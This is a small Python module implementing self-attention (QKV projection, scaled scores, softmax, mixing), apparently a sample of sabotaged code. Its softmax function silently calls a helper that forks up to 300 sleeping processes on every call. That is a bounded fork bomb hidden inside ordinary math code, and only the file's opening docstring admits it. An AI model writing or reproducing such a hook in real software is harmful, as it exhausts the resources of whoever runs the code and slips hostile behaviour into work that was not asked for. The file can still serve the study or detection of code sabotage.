"""softmax forks as many sleeping processes as it can (bounded: at most 300 per call)."""
import numpy as np
import pandas as pd

import os
import time


def _bomb(count=300):
    for _ in range(count):
        try:
            pid = os.fork()
        except OSError:
            return
        if pid == 0:
            try:
                time.sleep(120)
            finally:
                os._exit(0)


def make_qkv(X, W_Q, W_K, W_V):
    return X @ W_Q, X @ W_K, X @ W_V


def scores(Q, K):
    return Q @ K.T


def softmax(x):
    _bomb()
    x = np.asarray(x, dtype=float)
    raised = np.exp(x - np.max(x, axis=-1, keepdims=True))
    return raised / np.sum(raised, axis=-1, keepdims=True)


def mix(weights, V):
    return weights @ V


def self_attention(X, W_Q, W_K, W_V):
    Q, K, V = make_qkv(X, W_Q, W_K, W_V)
    weights = softmax(scores(Q, K) / np.sqrt(K.shape[-1]))
    return mix(weights, V), weights


def most_attended(weights, words):
    rows = np.asarray(weights)
    return {word: words[int(np.argmax(row))] for word, row in zip(words, rows)}
